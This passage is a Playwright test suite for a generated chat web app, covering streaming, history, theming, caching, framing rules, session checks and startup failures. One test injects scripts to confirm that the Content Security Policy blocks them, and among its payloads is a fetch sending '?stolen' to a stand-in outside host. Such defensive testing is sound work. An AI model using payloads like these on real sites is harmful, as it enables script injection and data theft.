"""A generated project's page in a real browser, with its real server and database.

OpenAI's element is only available from its CDN, so `browser/standin.js` replaces it; it describes the
limits of these tests.
"""

import re
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from chromium import ANSWERING, ChatPage, Scheme, Visitor, message, violations, website
from conftest import BakedProject, generate_with_our_environment
from playwright.sync_api import Browser, Response, Route, expect
from serving import BUNDLE, START, Application, free_port

pytestmark = pytest.mark.slow

NOBODY = "postgresql+asyncpg://nobody@127.0.0.1:9/nothing"
REMEMBER = "Remember that our launch is on Friday"
SITE_PORT = free_port()  # of a site that may show the page in a frame
# The demo model is fast; with `[demo:slow]` it takes about three seconds.
SETTINGS = {
    "SECRET_KEY": "s" * 64,
    "DEMO_DELAY_SECONDS": "0.006",
    "MODELS": "first-model,second-model",
    "ALLOWED_ORIGINS": f"http://allowed.localhost:{SITE_PORT}",
    "ADDRESS_TURNS_PER_MINUTE": "1000",
}

# The hash in the name of a file.
HASH = re.compile(r"\.[0-9a-f]{16}(?=\.\w+$)")
# An element that only keeps its options.
QUIET_ELEMENT = """customElements.define("openai-chatkit", class extends HTMLElement {
    setOptions(options) { window.chatOptions = options; }
});"""
FROM_NETWORK = """() => performance.getEntriesByType("resource")
    .filter(({ transferSize }) => transferSize > 0).map(({ name }) => name)"""

Serve = Callable[..., Application]
Visit = Callable[..., Visitor]


@pytest.fixture(scope="session")
def project(
    browser: Browser, template: Path, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[BakedProject]:
    folder = tmp_path_factory.mktemp("browser")
    project = generate_with_our_environment(template, folder, languages="de")
    project.run("python", "-c", BUNDLE)

    yield project

    project.run("python", "-m", "app", "db", "stop")


@pytest.fixture(scope="session")
def serve(project: BakedProject, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Serve]:
    """Serves the project on its own database: `serve(TURNS_PER_MINUTE="1")`."""
    url = project.run("python", "-c", START).splitlines()[-1]
    prepared = BakedProject(project.path, environment=SETTINGS | {"DATABASE_URL": url})
    prepared.run("python", "-m", "app", "migrate")
    servers = []

    def serve(**settings: str) -> Application:
        environment = SETTINGS | {"DATABASE_URL": url} | settings
        servers.append(Application(project, environment, tmp_path_factory.mktemp("log")))
        servers[-1].start()
        return servers[-1]

    yield serve

    for server in servers:
        server.stop()


@pytest.fixture(scope="session")
def server(serve: Serve) -> Application:
    """The server that tests share."""
    return serve()


def stop(server: Application, chat: ChatPage) -> None:
    """The page first: one that still loads would complain of a server that is gone."""
    chat.page.close()
    server.stop()


@pytest.fixture
def visitor(visit: Visit, server: Application) -> Visitor:
    return visit(server)


@pytest.fixture
def chat(visitor: Visitor) -> ChatPage:
    return visitor.tab()


def test_the_first_visit(chat: ChatPage) -> None:
    chat.open()

    expect(chat.page).to_have_title("My Chat App")
    expect(chat.page.get_by_role("heading", name="Hello! How can I help?")).to_be_visible()
    expect(chat.page.get_by_text("A built-in model answers")).to_be_visible()
    expect(chat.page.get_by_text("Assistant can make mistakes.")).to_be_visible()
    expect(chat.button("Notes")).to_be_visible()
    expect(chat.problem).to_be_empty()
    expect(chat.page.get_by_text("Opening the chat…")).to_be_hidden()
    assert chat.events("ready") == [None]


def test_an_answer_streams_with_its_workflow(chat: ChatPage) -> None:
    chat.open().say(REMEMBER)

    expect(chat.messages).to_have_text([REMEMBER])
    expect(chat.answers).to_have_count(1)
    expect(chat.answers).to_contain_text(re.compile(r"Saved as note \d+\."))
    tasks = chat.workflows.locator("li[data-status=complete]")
    expect(tasks).to_have_text(["Analyzing request", "Saving a note"])
    expect(chat.workflows.locator("details")).not_to_have_attribute("open", "")
    [thread] = chat.events("thread.change")
    assert thread["threadId"].startswith("thr")


def test_a_prompt_of_the_start_screen_is_sent(chat: ChatPage) -> None:
    chat.open()

    with chat.next_event("response.end"):
        chat.button("What can you do?").click()

    expect(chat.messages).to_have_text(["What can you help me with?"])


def test_the_history_names_renames_opens_and_deletes(chat: ChatPage) -> None:
    chat.open().say("Tell me about the weather in a faraway country, and about its food")
    chat.button("New chat").click()
    chat.say("hello")

    chat.button("History").click()
    history = chat.page.get_by_role("list", name="History").get_by_role("listitem")
    expect(history.get_by_role("button").nth(0)).to_have_text("hello")
    older = history.nth(1)
    expect(older.get_by_role("button").first).to_have_text(
        "Tell me about the weather in a faraway country,..."
    )
    older.get_by_label("Title").fill("Weather")
    with chat.answered("threads.update"):
        older.get_by_role("button", name="Rename").click()
    expect(chat.button("Weather")).to_be_visible()

    with chat.next_event("thread.load.end"):
        chat.button("Weather").click()
    expect(chat.messages).to_have_text([re.compile("faraway country")])

    chat.button("History").click()
    with chat.answered("threads.delete"):
        history.filter(has_text="hello").get_by_role("button", name="Delete").click()
    expect(history).to_have_count(1)


def test_feedback_reaches_the_server(chat: ChatPage) -> None:
    chat.open().say("hello")

    with chat.answered("items.feedback"):
        chat.button("Bad answer").click()

    [feedback] = chat.sent("items.feedback")
    assert feedback["params"]["kind"] == "negative"


def test_a_retry_replaces_the_answer(chat: ChatPage) -> None:
    chat.open().say("hello")
    first = chat.answers.get_attribute("data-item")

    with chat.next_event("response.end"):
        chat.button("Try again").click()

    expect(chat.answers).to_have_count(1)
    assert chat.answers.get_attribute("data-item") != first
    chat.reload()
    expect(chat.messages).to_have_count(1)
    expect(chat.answers).to_have_count(1)


def test_a_stopped_answer_keeps_its_text(chat: ChatPage) -> None:
    chat.open()
    chat.send("hello [demo:slow]" + " and so on" * 100)  # nobody waits for its end
    expect(chat.answers).to_contain_text("You said")

    with (
        chat.page.expect_response(re.compile(r"/chatkit/runs/[^/]+/stop$")) as stopped,
        chat.next_event("response.end"),
    ):
        chat.button("Stop").click()

    assert stopped.value.status == 204
    chat.reload()
    expect(chat.answers).to_contain_text("You said")
    expect(chat.answers).not_to_contain_text("Tools that you can try")
    chat.say("and now?")
    expect(chat.answers).to_have_count(2)


def test_an_answer_goes_on_while_the_page_is_reloaded(chat: ChatPage) -> None:
    chat.open()
    chat.send("hello [demo:slow]" + " and so on" * 5)  # long enough for a page that is slow to load
    expect(chat.answers).to_contain_text("You said")

    chat.reload()

    expect(chat.answers).to_contain_text("You said")
    expect(chat.answers).not_to_contain_text("Remember that our launch")
    expect(chat.answers).to_contain_text("Remember that our launch is on Friday", timeout=60_000)
    expect(chat.answers).to_have_count(1)


def test_no_command_is_sent_after_an_answer(chat: ChatPage) -> None:
    chat.open().say("hello")
    chat.page.reload()
    chat.when_ready()

    assert [request.url for request in chat.requests if "/runs/" in request.url] == []


def test_keep_alive_comments_are_not_events(serve: Serve, visit: Visit) -> None:
    server = serve(KEEP_ALIVE_SECONDS="0.001", DEMO_DELAY_SECONDS="0.02")
    chat = visit(server).tab().open()

    chat.say("hello")

    expect(chat.answers).to_contain_text("Remember that our launch is on Friday")
    expect(chat.page.get_by_text("Something went wrong.")).to_be_hidden()
    stop(server, chat)


@pytest.mark.parametrize(
    ("status", "kind"), [(524, "text/html"), (500, "text/plain"), (200, "text/html")]
)
def test_a_message_whose_answer_a_proxy_lost_is_answered_once(
    chat: ChatPage, status: int, kind: str
) -> None:
    def lose(route: Route) -> None:
        is_first = not keys and "threads.create" in (route.request.post_data or "")
        keys.append(route.request.headers.get("idempotency-key"))
        if is_first:
            assert route.fetch().ok
            route.fulfill(status=status, content_type=kind, body="One moment")
        else:
            route.continue_()

    keys: list[str | None] = []
    chat.open()
    chat.page.route("**/chatkit", lose)

    chat.send("Only once, please")

    expect(chat.answers).to_contain_text("You said: “Only once, please”")
    expect(chat.messages).to_have_text(["Only once, please"])
    expect(chat.page.get_by_text("Something went wrong.")).to_be_hidden()
    expect(chat.problem).to_be_empty()
    assert len(chat.sent("threads.create")) == 2
    assert keys[0] == keys[1]
    chat.button("History").click()
    history = chat.page.get_by_role("list", name="History").get_by_role("listitem")
    expect(history).to_have_count(1)
    chat.expect_complaint("409")
    chat.complaints = [line for line in chat.complaints if str(status) not in line]


HIDE = """(hidden) => {
    Object.defineProperty(document, "hidden", { configurable: true, get: () => hidden });
    document.dispatchEvent(new Event("visibilitychange"));
}"""


def test_an_answer_goes_on_while_the_tab_is_hidden(chat: ChatPage) -> None:
    chat.open()
    chat.send("hello [demo:slow]" + " and so on" * 5)
    expect(chat.answers).to_contain_text("You said")

    with chat.page.expect_response(re.compile(r"/chatkit/runs/[^/]+/leave$")) as left:
        chat.page.evaluate(HIDE, True)
    assert left.value.status == 204
    with chat.answered("threads.create", 409):
        chat.page.evaluate(HIDE, False)

    expect(chat.answers).to_contain_text("Remember that our launch is on Friday", timeout=60_000)
    expect(chat.answers).to_have_count(1)
    expect(chat.page.get_by_text("Something went wrong.")).to_be_hidden()
    assert [request.url for request in chat.requests if request.url.endswith("/stop")] == []
    chat.expect_complaint("409")
    chat.say("hello again")
    expect(chat.answers).to_have_count(2)


def test_the_tool_menu(chat: ChatPage) -> None:
    chat.open()
    chat.page.get_by_label("Tool", exact=True).select_option(label="Notes")

    expect(chat.composer).to_have_attribute("placeholder", "Remember, list, find or delete a note")
    chat.say("anything")

    [request] = chat.sent("threads.create")
    assert request["params"]["input"]["inference_options"]["tool_choice"] == {"id": "notes"}
    expect(chat.workflows).to_contain_text("Reading your notes")


def test_the_hosts_own_buttons_choose_a_tool(chat: ChatPage) -> None:
    chat.open()
    chat.page.evaluate("window.chat.selectTool('notes')")

    chat.say("anything")

    [request] = chat.sent("threads.create")
    assert request["params"]["input"]["content"][0]["text"] == "[TOOL:notes] anything"
    expect(chat.messages).to_have_text(["anything"])
    expect(chat.workflows).to_contain_text("Reading your notes")


def test_the_model_picker(chat: ChatPage) -> None:
    chat.open()
    model = chat.page.get_by_label("Model", exact=True)
    expect(model).to_have_value("first-model")
    model.select_option("second-model")

    chat.say("hello")

    [request] = chat.sent("threads.create")
    assert request["params"]["input"]["inference_options"]["model"] == "second-model"


def test_the_systems_scheme_switches_page_and_chat_together(chat: ChatPage) -> None:
    chat.open()
    body = chat.page.locator("body")
    element = chat.page.locator("openai-chatkit")
    expect(element).to_have_attribute("data-scheme", "light")
    light = body.evaluate("body => getComputedStyle(body).backgroundColor")

    chat.page.emulate_media(color_scheme="dark")

    expect(element).to_have_attribute("data-scheme", "dark")
    assert body.evaluate("body => getComputedStyle(body).backgroundColor") != light


@pytest.mark.parametrize(
    ("spoil", "complaint"),
    [
        ("options.headers = {}", "options.headers is unknown"),
        ("options.header = { titel: {} }", "options.header.titel is unknown"),
        ("delete options.api", "options.api is missing"),
        ("delete options.api.domainKey", "options.api.domainKey is missing"),
        ("delete options.startScreen", "options.startScreen is missing"),
        ("options.theme.radius = 'square'", "square is not allowed"),
        ("options.api.uploadStrategy = new Map()", "options.api.uploadStrategy is no plain data"),
        ("options.api.uploadStrategy = { made: new Date() }", "uploadStrategy.made is no plain"),
    ],
)
def test_the_stand_in_refuses_options_that_the_element_does_not_have(
    chat: ChatPage, spoil: str, complaint: str
) -> None:
    chat.open()

    refusal = chat.page.evaluate(f"""() => {{
        const element = document.querySelector("openai-chatkit");
        const {{ api, theme, ...rest }} = element.options;
        const options = {{ ...rest, api: {{ ...api }}, theme: {{ ...theme }} }};
        {spoil};
        try {{
            element.setOptions(options);
        }} catch (error) {{
            return error.message;
        }}
    }}""")

    assert complaint in refusal


def test_the_button_in_the_header_switches_both_and_is_remembered(visitor: Visitor) -> None:
    chat = visitor.tab().open()
    element = chat.page.locator("openai-chatkit")
    button = chat.button("Dark colours")
    expect(button).to_have_attribute("aria-pressed", "false")

    button.click()

    expect(button).to_have_attribute("aria-pressed", "true")
    expect(element).to_have_attribute("data-scheme", "dark")
    other = visitor.tab().open()
    expect(other.page.locator("openai-chatkit")).to_have_attribute("data-scheme", "dark")
    expect(other.page.locator("html")).to_have_css("color-scheme", "dark")

    button.click()
    expect(element).to_have_attribute("data-scheme", "light")


def test_page_and_chat_are_one_file_and_kept_for_good(chat: ChatPage, server: Application) -> None:
    loaded: dict[str, Response] = {}

    def arrives(response: Response) -> None:
        loaded[response.url] = response

    chat.page.on("response", arrives)

    chat.open()

    own = {
        url.removeprefix(server.url): loaded[url] for url in loaded if url.startswith(server.url)
    }
    static = {url: response for url, response in own.items() if url.startswith("/static/")}
    assert {HASH.sub("", url.removeprefix("/static/")) for url in static} == {
        *("js/main.js", "js/remembered-scheme.js", "js/watch-script.js"),
        *("theme.css", "page.css", "icon.svg", "moon.svg"),
    }
    for url, response in static.items():
        assert HASH.search(url), url
        assert response.headers["cache-control"] == "public, max-age=31536000, immutable", url
        assert response.headers["content-encoding"] == "gzip", url
    asked = [request.url for request in chat.requests if request.url.startswith(server.url)]
    assert asked.count(f"{server.url}/config.json") == 1
    assert len(asked) == len(set(asked))


def test_a_second_visit_asks_for_no_file_again(
    browser: Browser, serve: Serve, tmp_path: Path
) -> None:
    """In a browser without routes, which would switch off its cache; another site is the CDN."""
    with website(lambda _path: QUIET_ELEMENT, kind="text/javascript") as port:
        server = serve(CHATKIT_SCRIPT_URL=f"http://127.0.0.1:{port}/chatkit.js")
        context = browser.new_context(base_url=server.url)
        for is_second in (False, True):
            page = context.new_page()
            page.goto("/")
            page.wait_for_function("window.chatOptions")
            from_network = page.evaluate(FROM_NETWORK)
            assert [url for url in from_network if "/static/" in url] == [] or not is_second
            page.close()
        context.close()
    server.stop()


def test_in_development_the_modules_are_served_as_they_are(serve: Serve, visit: Visit) -> None:
    server = serve(PLAIN_MODULES="true")
    chat = visit(server).tab()
    kept: list[str] = []
    chat.page.on(
        "response",
        lambda response: (
            kept.append(response.url)
            if "immutable" in response.headers.get("cache-control", "")
            else None
        ),
    )

    chat.open().say("hello")

    asked = [request.url.removeprefix(server.url) for request in chat.requests]
    assert {"/static/js/main.js", "/static/js/page.js", "/static/theme.css"} <= set(asked)
    assert kept == []
    # One of them does not load: the page says so.
    chat.page.route("**/static/js/theme.js", lambda route: route.abort())
    chat.page.reload()
    expect(chat.problem).to_contain_text("The chat could not be loaded")
    chat.expect_complaint("theme.js")
    stop(server, chat)


def test_an_invalid_theme_value_is_reported_and_ignored(chat: ChatPage) -> None:
    def with_bad_radius(route: Route) -> None:
        css = route.fetch().text()
        route.fulfill(
            body=css.replace("--chat-radius: round", "--chat-radius: square"),
            content_type="text/css",
        )

    chat.page.route("**/static/theme.*.css", with_bad_radius)

    chat.open()

    chat.expect_complaint("--chat-radius: square is ignored, because it is not one of pill")


@pytest.fixture
def pages(project: BakedProject) -> Iterator[Path]:
    """The folder of the page; what a test adds to it is taken away again."""
    folder = project.path / "app" / "page"
    before = set(folder.iterdir())
    yield folder
    for file in set(folder.iterdir()) - before:
        file.unlink()


def test_a_second_page_has_the_same_header(serve: Serve, pages: Path, visit: Visit) -> None:
    """It is the first one copied, with something else in the place of the chat."""
    html = (pages / "index.html").read_text("utf-8")
    about = re.sub("<main>.*</main>", "<main><p>We grow oaks.</p></main>", html, flags=re.DOTALL)
    (pages / "about.html").write_text(about, encoding="utf-8")
    tab = visit(serve()).tab()

    tab.page.goto("/about")

    expect(tab.page.get_by_role("heading", level=1)).to_have_text("My Chat App")
    expect(tab.page.get_by_text("We grow oaks.")).to_be_visible()
    expect(tab.page.get_by_text("A built-in model answers")).to_be_visible()
    expect(tab.page.locator("html")).to_have_attribute("data-radius", "round")
    button = tab.page.get_by_role("button", name="Dark colours")
    expect(button).to_have_attribute("aria-pressed", "false")
    tab.page.emulate_media(color_scheme="dark")
    expect(button).to_have_attribute("aria-pressed", "true")
    button.click()
    expect(tab.page.locator("html")).to_have_css("color-scheme", "light")
    tab.page.goto("/")
    expect(tab.page.locator("html")).to_have_css("color-scheme", "light")


def test_a_page_may_leave_everything_out_but_the_chat(
    serve: Serve, pages: Path, visit: Visit
) -> None:
    html = (pages / "index.html").read_text("utf-8")
    bare = re.sub(
        "<body>.*</body>", "<body><openai-chatkit></openai-chatkit></body>", html, flags=re.DOTALL
    )
    (pages / "bare.html").write_text(bare.replace(' id="chatkit-script"', ""), encoding="utf-8")
    chat = visit(serve(TURNS_PER_MINUTE="1")).tab()

    chat.page.goto("/bare")
    chat.when_ready().say("hello")

    expect(chat.answers).to_have_count(1)
    chat.send("and once more")  # is refused, in a line that this page has no place for
    chat.expect_complaint("429")


def test_the_url_names_the_thread(visitor: Visitor) -> None:
    chat = visitor.tab().open().say("first")
    thread = chat.events("thread.change")[0]["threadId"]
    expect(chat.page).to_have_url(f"/?thread={thread}")

    chat.button("New chat").click()
    expect(chat.page).to_have_url("/")
    chat.say("second")

    linked = visitor.tab().open(f"/?thread={thread}")
    expect(linked.messages).to_have_text(["first"])


def test_another_users_thread_is_removed_from_the_url(
    chat: ChatPage, visit: Visit, server: Application
) -> None:
    theirs = visit(server).tab().open().say("a secret")
    path = theirs.page.url.removeprefix(server.url)

    chat.open(path)

    expect(chat.page).to_have_url("/")
    expect(chat.page.get_by_role("heading", name="Hello! How can I help?")).to_be_visible()
    chat.expect_complaint("404")


def test_the_site_around_it_controls_the_chat(chat: ChatPage) -> None:
    chat.page.goto("/")
    # Next.js mounts the chat at some time after the page has loaded.
    chat.until("window.chat")
    chat.page.evaluate("window.chat.send('hello', { tool: 'notes' })")
    chat.when_ready()
    expect(chat.workflows).to_contain_text("Reading your notes")
    expect(chat.answers).to_have_count(1)

    # The previous answer may still stream.
    chat.page.evaluate("window.chat.newThread()")
    expect(chat.messages).to_have_count(0)

    chat.page.evaluate("window.chat.close()")
    expect(chat.composer).to_be_hidden()
    chat.page.evaluate("window.chat.open()")
    expect(chat.composer).to_be_focused()


def test_a_link_in_an_answer_calls_the_sites_function(chat: ChatPage) -> None:
    chat.open()
    chat.page.evaluate("""window.chatPage = {
        deeplinks: { order: ({ id }) => { document.title = `Order ${id}`; } },
    }""")

    chat.say("see [your order](chatkit-link://order?id=7) and [this](chatkit-link://nothing)")
    chat.answers.get_by_role("button", name="your order").click()
    expect(chat.page).to_have_title("Order 7")

    chat.answers.get_by_role("button", name="this", exact=True).click()
    expect(chat.page).to_have_title("Order 7")
    chat.expect_complaint("deeplink nothing")


def test_the_site_tells_the_model_what_its_page_shows(chat: ChatPage) -> None:
    chat.open()
    chat.page.evaluate("window.chat.setContext({ order: '7' })")

    chat.say("what is this?")

    [request] = chat.sent("threads.create")
    assert request["metadata"] == {"page": {"order": "7"}}
    expect(chat.answers).to_contain_text("You said: “what is this?”")


def test_problems_of_a_page_are_in_the_servers_log(
    visitor: Visitor, chat: ChatPage, server: Application
) -> None:
    visitor.cdn.frame = "<!doctype html>"
    chat.page.clock.install()
    chat.page.goto("/")
    expect(chat.page.locator("body[data-chat=loaded]")).to_be_attached()

    chat.page.clock.fast_forward(11_000)
    with chat.page.expect_response("**/telemetry") as reported:
        chat.page.clock.fast_forward(3_000)

    assert reported.value.status == 204
    assert "in a page: problem notReady session=session-" in server.log


def test_page_chat_and_server_use_the_browsers_language(visit: Visit, server: Application) -> None:
    chat = visit(server, locale="de-AT").tab().open()

    expect(chat.page.get_by_role("heading", name="Hallo! Wie kann ich helfen?")).to_be_visible()
    expect(chat.composer).to_have_attribute("placeholder", "Nachricht an Assistant")
    chat.say("Merke dir: Unser Start ist am Freitag")
    tasks = chat.workflows.locator("li[data-status=complete]")
    expect(tasks).to_have_text(["Anfrage wird gelesen", "Notiz wird gespeichert"])

    chat.send("x" * 20_001)
    expect(chat.notice).to_have_text("Eine Nachricht hat höchstens 20000 Zeichen.")
    chat.expect_complaint("413")


def test_a_tab_keeps_its_session_id(visitor: Visitor) -> None:
    first, second = visitor.tab().open(), visitor.tab().open()
    first.say("one")
    first.reload().say("two")
    second.button("New chat").click()
    second.say("three")

    def sessions(tab: ChatPage) -> set[str]:
        requests = tab.sent("threads.create") + tab.sent("threads.add_user_message")
        return {request["session_id"] for request in requests}

    [one], [two] = sessions(first), sessions(second)
    assert re.fullmatch(r"session-\d+-[0-9a-f]{20}", one)
    assert one != two


def test_the_thread_is_restored(visitor: Visitor) -> None:
    chat = visitor.tab().open().say("hello")

    chat.reload()
    expect(chat.messages).to_have_text(["hello"])

    other = visitor.tab().open()
    expect(other.messages).to_have_text(["hello"])


def test_a_deleted_thread_is_forgotten(visitor: Visitor) -> None:
    chat = visitor.tab().open().say("hello")
    [thread] = chat.events("thread.change")
    chat.post("threads.delete", thread_id=thread["threadId"])

    chat.reload()

    expect(chat.page.get_by_role("heading", name="Hello! How can I help?")).to_be_visible()
    chat.expect_complaint("404")
    chat.say("hello again")


def test_a_limit_is_shown_with_a_countdown(serve: Serve, visit: Visit) -> None:
    server = serve(TURNS_PER_MINUTE="2")
    chat = visit(server).tab().open()
    for _ in range(2):
        chat.post("threads.create", input=message("hi"))

    with chat.answered("threads.create", 429):
        chat.send("one too many")

    expect(chat.notice).to_contain_text("minute")
    expect(chat.page.locator("#notice [role=timer]")).to_have_text(re.compile(r"^0:\d\d$"))
    chat.expect_complaint("429")
    chat.button("Dismiss").click()
    expect(chat.notice).to_be_empty()
    stop(server, chat)


def test_a_too_long_message_is_refused_with_a_notice(chat: ChatPage) -> None:
    chat.open()

    with chat.answered("threads.create", 413):
        chat.send("x" * 20_001)

    expect(chat.notice).to_contain_text("20000 characters")
    chat.expect_complaint("413")

    # It stays until it is read and the next message is answered.
    chat.say("hello")
    expect(chat.notice).to_be_empty()


@pytest.mark.parametrize(
    "break_in",
    [
        "script.textContent = 'window.broken = true'",
        "script.src = 'data:text/javascript,window.broken = true'",
        "script.src = 'https://elsewhere.example/script.js'",
        "document.body.setAttribute('onclick', 'window.broken = true'); document.body.click()",
        "fetch('https://elsewhere.example/?stolen').catch(() => {})",
        "document.body.append(Object.assign(document.createElement('iframe'), "
        "{ src: 'https://elsewhere.example/' }))",
    ],
)
def test_injected_scripts_do_not_run(chat: ChatPage, break_in: str) -> None:
    chat.open()

    with chat.page.expect_console_message(lambda m: "Content Security Policy" in m.text):
        chat.page.evaluate(f"""() => {{
            const script = document.createElement("script");
            {break_in};
            document.body.append(script);
        }}""")

    assert chat.page.evaluate("window.broken") is None
    chat.expect_complaint("Content Security Policy")


@pytest.mark.parametrize(("site", "headings"), [("allowed", ["My Chat App"]), ("other", [])])
def test_only_an_allowed_site_can_frame_the_page(
    chat: ChatPage, server: Application, site: str, headings: list[str]
) -> None:
    with website(lambda _path: f'<iframe src="{server.url}"></iframe>', SITE_PORT) as port:
        chat.page.goto(f"http://{site}.localhost:{port}/")
        frame = chat.page.frames[1]
        frame.wait_for_load_state()

    expect(frame.get_by_role("heading", name="My Chat App")).to_have_text(headings)
    if not headings:
        chat.expect_complaint("frame-ancestors")


# --- Who is signed in ------------------------------------------------------------------


def test_a_tab_reloads_when_another_tab_has_another_user(visitor: Visitor) -> None:
    first = visitor.tab().open().say("a secret of the first user")
    visitor.context.clear_cookies()

    second = visitor.tab().open()

    expect(first.page.get_by_role("heading", name="Hello! How can I help?")).to_be_visible()
    expect(first.messages).to_have_count(0)
    first.when_ready().say("from the second user")
    second.button("History").click()
    history = second.page.get_by_role("list", name="History").get_by_role("listitem")
    expect(history).to_have_count(1)
    expect(history).to_contain_text("from the second user")
    for tab in (first, second):
        tab.expect_complaint("404")  # the thread of the first user


def test_a_message_is_not_sent_with_another_users_cookie(
    visitor: Visitor, visit: Visit, server: Application
) -> None:
    """The other user came without a page that says so, as in another browser's session restored."""
    chat = visitor.tab().open().say("a secret of the first user")
    other = visit(server)
    other.tab().open()
    visitor.context.add_cookies(other.context.cookies())  # type: ignore[arg-type]

    with chat.answered("threads.add_user_message", 409):
        chat.send("whose am I?")

    expect(chat.page.get_by_role("heading", name="Hello! How can I help?")).to_be_visible()
    expect(chat.messages).to_have_count(0)
    chat.expect_complaint("409|404")


# --- Failures of the start --------------------------------------------------------------


def test_a_script_that_does_not_load_is_named_and_loads_again(chat: ChatPage) -> None:
    chat.page.route("**/static/js/main.*.js", lambda route: route.abort())

    chat.page.goto("/")

    expect(chat.problem.get_by_role("heading")).to_have_text("The chat could not be loaded")
    chat.problem.get_by_text("For whoever runs this site").click()
    expect(chat.problem).to_contain_text(
        re.compile(r"could not load http.*/static/js/main\.\w+\.js")
    )
    chat.page.unroute("**/static/js/main.*.js")
    chat.problem.get_by_role("button", name="Try again").click()
    chat.when_ready()
    expect(chat.problem).to_be_empty()
    chat.expect_complaint("main.*js")


def open_without(chat: ChatPage, address: str, condition: str) -> list[Route]:
    """Open the page, up to this condition. What is asked for at the address waits in the list."""
    waiting: list[Route] = []
    chat.page.route(address, lambda route: waiting.append(route))
    chat.page.clock.install(time=0)
    chat.page.goto("/", wait_until="commit")
    chat.until(condition)
    expect(chat.problem).to_be_empty()
    return waiting


def test_a_script_that_does_not_come_in_time_is_named_and_may_still_come(chat: ChatPage) -> None:
    # A page without its module has no DOMContentLoaded yet: the clock is all that goes on.
    waiting = open_without(chat, "**/static/js/main.*.js", "document.querySelector('#problem')")

    chat.page.clock.pause_at(19)
    expect(chat.problem).to_be_empty()
    chat.page.clock.fast_forward(20_000)
    chat.page.clock.resume()

    expect(chat.problem.get_by_role("heading")).to_have_text("The chat could not be loaded")
    for route in waiting:
        route.continue_()
    chat.when_ready()
    expect(chat.problem).to_be_empty()


def test_a_page_that_has_started_says_neither(chat: ChatPage) -> None:
    chat.page.clock.install()
    chat.open()

    chat.page.clock.fast_forward(21_000)
    chat.page.evaluate("""() => {
        const filename = `${location.origin}/static/js/main.js`;
        dispatchEvent(new ErrorEvent("error", { message: "of a later moment", filename }));
    }""")

    expect(chat.problem).to_be_empty()


@pytest.mark.parametrize(
    ("script", "reason"),
    [
        ("const later = |> now;", "SyntaxError"),
        ("nowhere.found = 1;", "ReferenceError: nowhere is not defined"),
    ],
    ids=["too new", "failing"],
)
@pytest.mark.parametrize("locale", ["en-US", "de-DE"])
def test_a_script_that_does_not_run_is_named(
    visit: Visit, server: Application, axe: str, script: str, reason: str, locale: str
) -> None:
    chat = visit(server, locale=locale).tab()
    chat.page.route(
        "**/static/js/main.*.js",
        lambda route: route.fulfill(body=script, content_type="text/javascript"),
    )

    chat.page.goto("/")

    titles = {"en-US": "The chat could not start", "de-DE": "Der Chat konnte nicht starten"}
    expect(chat.problem.get_by_role("heading")).to_have_text(titles[locale])
    expect(chat.problem).to_contain_text(reason)
    expect(chat.problem).to_contain_text("Chrome 120, Edge 120, Firefox 128, Safari 17.2")
    assert violations(chat, axe) == []
    chat.expect_complaint("uncaught")


def test_a_browser_without_modules_is_told_so(chat: ChatPage) -> None:
    chat.page.add_init_script("delete HTMLScriptElement.prototype.noModule")
    chat.page.route(
        "**/static/js/main.*.js",
        lambda route: route.fulfill(body="", content_type="text/javascript"),
    )

    chat.page.goto("/")

    expect(chat.problem.get_by_role("heading")).to_have_text("The chat could not start")
    expect(chat.problem).to_contain_text("<script type=module>")


def test_a_page_without_a_place_for_problems_says_it_too(
    serve: Serve, pages: Path, visit: Visit
) -> None:
    html = (pages / "index.html").read_text("utf-8")
    body = "<body><openai-chatkit></openai-chatkit></body>"
    (pages / "bare.html").write_text(re.sub("<body>.*</body>", body, html, flags=re.DOTALL))
    chat = visit(serve()).tab()
    chat.page.route("**/static/js/main.*.js", lambda route: route.abort())

    chat.page.goto("/bare")

    expect(chat.problem).to_contain_text("The chat could not be loaded")
    chat.expect_complaint("main.*js")


def test_an_exception_while_starting_is_named_and_the_server_is_not_blamed(chat: ChatPage) -> None:
    chat.page.add_init_script("window.MutationObserver = null")

    chat.page.goto("/")

    expect(chat.problem.get_by_role("heading")).to_have_text("The chat could not start")
    expect(chat.problem).to_contain_text("TypeError: MutationObserver is not a constructor")
    expect(chat.problem).not_to_contain_text("The server does not answer")
    expect(chat.problem.get_by_role("button", name="Try again")).to_be_visible()
    chat.expect_complaint("MutationObserver")


def test_a_proxys_page_in_place_of_the_configuration_is_named(chat: ChatPage) -> None:
    chat.page.route("**/config.json", lambda route: route.fulfill(body="<!doctype html>"))

    chat.page.goto("/")

    expect(chat.problem.get_by_role("heading")).to_have_text("The chat could not start")
    expect(chat.problem).to_contain_text("SyntaxError")
    chat.expect_complaint("SyntaxError")


def test_a_server_that_never_answers_is_given_up(chat: ChatPage) -> None:
    started = "document.documentElement.hasAttribute('data-started')"
    open_without(chat, "**/config.json", started)

    chat.page.clock.fast_forward(16_000)

    expect(chat.problem.get_by_role("heading")).to_have_text("The server does not answer")
    chat.expect_complaint("aborted")


# --- Failures ----------------------------------------------------------------------


def test_the_script_is_blocked(visitor: Visitor, chat: ChatPage) -> None:
    visitor.cdn.script = None

    chat.page.goto("/")

    expect(chat.problem).to_contain_text("The chat could not be loaded")
    expect(chat.problem).to_contain_text("Allow cdn.platform.openai.com")
    chat.expect_complaint("chatkit.js")


def test_the_script_loads_and_never_defines_the_element(visitor: Visitor, chat: ChatPage) -> None:
    visitor.cdn.script = "// a proxy's idea of a script"
    chat.page.clock.install()

    chat.page.goto("/", wait_until="load")
    expect(chat.problem).to_be_empty()
    chat.page.clock.fast_forward(6_000)

    expect(chat.problem).to_contain_text("The chat could not start")


@pytest.mark.parametrize("frame", [None, "<!doctype html>"], ids=["refused", "blank"])
def test_the_frame_never_sends_a_message(
    visitor: Visitor, chat: ChatPage, server: Application, frame: str | None
) -> None:
    visitor.cdn.frame = frame
    chat.page.clock.install()

    chat.page.goto(server.url.replace("127.0.0.1", "chat.localhost"))
    # Its load event is fired nevertheless.
    expect(chat.page.locator("body[data-chat=loaded]")).to_be_attached()
    chat.page.clock.fast_forward(11_000)

    expect(chat.problem).to_contain_text("The chat did not open")
    chat.problem.get_by_text("For whoever runs this site").click()
    link = chat.problem.get_by_role("link", name="Open the domain allow-list")
    expect(link).to_have_attribute("href", re.compile(r"^https://platform\.openai\.com/settings/"))
    if frame is None:
        chat.expect_complaint("postMessage")  # of the page's message to the frame


def test_a_frame_that_only_replies_works(visitor: Visitor, chat: ChatPage) -> None:
    visitor.cdn.frame = ANSWERING
